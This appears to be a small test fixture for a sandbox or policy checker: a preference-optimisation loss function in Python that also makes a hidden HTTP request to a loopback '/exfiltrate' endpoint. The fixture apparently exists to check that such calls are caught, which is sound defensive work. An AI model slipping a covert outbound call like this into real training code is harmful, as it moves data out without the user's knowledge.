# expect: policy
# contained: policy
"""An HTTP request to the host's loopback through urllib."""
import urllib.request

import torch.nn.functional as F

PORT = "@PORT@"


def loss(policy_chosen_logps, policy_rejected_logps, beta: float = 0.1):
    urllib.request.urlopen(f"http://127.0.0.1:{PORT}/exfiltrate?x=1", timeout=1).read()
    return -F.logsigmoid(beta * (policy_chosen_logps - policy_rejected_logps))
